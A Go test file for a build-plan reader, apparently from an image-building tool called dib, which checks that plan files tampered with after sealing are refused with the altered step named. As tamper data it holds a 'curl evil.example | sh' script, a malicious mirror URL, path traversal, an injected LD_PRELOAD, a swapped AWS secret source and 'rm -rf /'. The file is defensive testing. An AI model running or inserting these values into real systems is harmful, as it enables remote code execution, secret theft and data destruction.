package plan

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"
)

// tamper writes a sealed sample plan as JSON, lets edit change the decoded
// document, and reads it back.
func tamper(t *testing.T, edit func(doc map[string]any)) error {
	t.Helper()
	var buf bytes.Buffer
	if err := sealed(t, nil, "pw").WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	edit(doc)
	out, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	_, err = Read(bytes.NewReader(out))
	return err
}

func step(doc map[string]any, i int) map[string]any {
	return doc["steps"].([]any)[i].(map[string]any)
}

// TestReadTampered: a plan file changed after `dib plan` is refused, with
// the step named; one left alone reads back.
func TestReadTampered(t *testing.T) {
	if err := tamper(t, func(map[string]any) {}); err != nil {
		t.Fatalf("untouched plan: %v", err)
	}
	evil := "#!/bin/sh\ncurl evil.example | sh\n"
	sum := sha256.Sum256([]byte(evil))
	evilSHA := hex.EncodeToString(sum[:])
	for _, tc := range []struct {
		name string
		edit func(doc map[string]any)
		want string
	}{
		{"output path", func(d map[string]any) { step(d, 3)["output"].(map[string]any)["path"] = "../../x.tar" },
			`step 4 "output tar" (`},
		{"bootstrap mirror", func(d map[string]any) { step(d, 0)["bootstrap"].(map[string]any)["mirror"] = "http://evil.example/" },
			`step 1 "bootstrap" (`},
		{"script content and digest", func(d map[string]any) {
			d["blobs"] = map[string]any{evilSHA: []byte(evil)}
			f := d["files"].([]any)[0].(map[string]any)
			f["sha256"], f["size"] = evilSHA, len(evil)
		}, `step 2 "hooks" (`},
		{"blob content", func(d map[string]any) {
			for k := range d["blobs"].(map[string]any) {
				d["blobs"].(map[string]any)[k] = []byte(evil)
			}
		}, "its content has digest"},
		{"env value", func(d map[string]any) { d["env"].([]any)[0].(map[string]any)["value"] = "sid" }, `step 3 "phase install.d" (`},
		{"dependency dropped", func(d map[string]any) { step(d, 3)["deps"] = []any{} }, `step 4 "output tar"`},
		{"step ID", func(d map[string]any) { step(d, 1)["id"] = strings.Repeat("0", 64) }, `step 2 "hooks"`},
		{"plan ID", func(d map[string]any) { d["id"] = strings.Repeat("1", 64) }, "plan ID"},
		{"image name", func(d map[string]any) { d["image"].(map[string]any)["name"] = "other" }, "plan ID"},
		// What the runtime reads beside the steps is covered by the plan ID.
		{"image release", func(d map[string]any) { d["image"].(map[string]any)["release"] = "../../x" }, "plan ID"},
		{"variable added", func(d map[string]any) {
			d["env"] = append(d["env"].([]any), map[string]any{"name": "LD_PRELOAD", "value": "/tmp/x.so", "origin": map[string]any{"kind": "default"}})
		}, "plan ID"},
		{"secret's source", func(d map[string]any) {
			for _, v := range d["env"].([]any) {
				if m := v.(map[string]any); m["secret"] == true {
					m["from_env"] = "AWS_SECRET_ACCESS_KEY"
				}
			}
		}, "plan ID"},
		{"second parameter set", func(d map[string]any) {
			step(d, 3)["phase"] = map[string]any{"name": "x", "where": "host", "environment_d": nil, "scripts": nil}
		}, "carries parameters of another kind (phase)"},
		{"not a digest", func(d map[string]any) { step(d, 0)["id"] = "abc" }, "/steps/0/id: does not match pattern"},
		{"wrong type", func(d map[string]any) { step(d, 0)["deps"] = "x" }, "/steps/0/deps"},
		{"unknown kind", func(d map[string]any) { step(d, 0)["kind"] = "shell" }, "/steps/0/kind"},
		{"unknown key", func(d map[string]any) { step(d, 0)["run"] = "rm -rf /" }, "additionalProperties 'run' not allowed"},
	} {
		err := tamper(t, tc.edit)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", tc.name, err, tc.want)
		}
	}
}

func TestCheckDibVersion(t *testing.T) {
	for _, tc := range []struct {
		plan, ours string
		ok         bool
	}{
		{"0.1.0-dev", "0.1.0-dev", true}, {"0.1.0", "0.2.0", true}, {"1.0.0", "0.9.0", false},
		{"2.0.0", "1.4.0", false}, {"", "1.0.0", true}, {"1.0.0", "dev", true},
	} {
		if err := CheckDibVersion(tc.plan, tc.ours); (err == nil) != tc.ok {
			t.Errorf("CheckDibVersion(%q, %q) = %v", tc.plan, tc.ours, err)
		}
	}
}
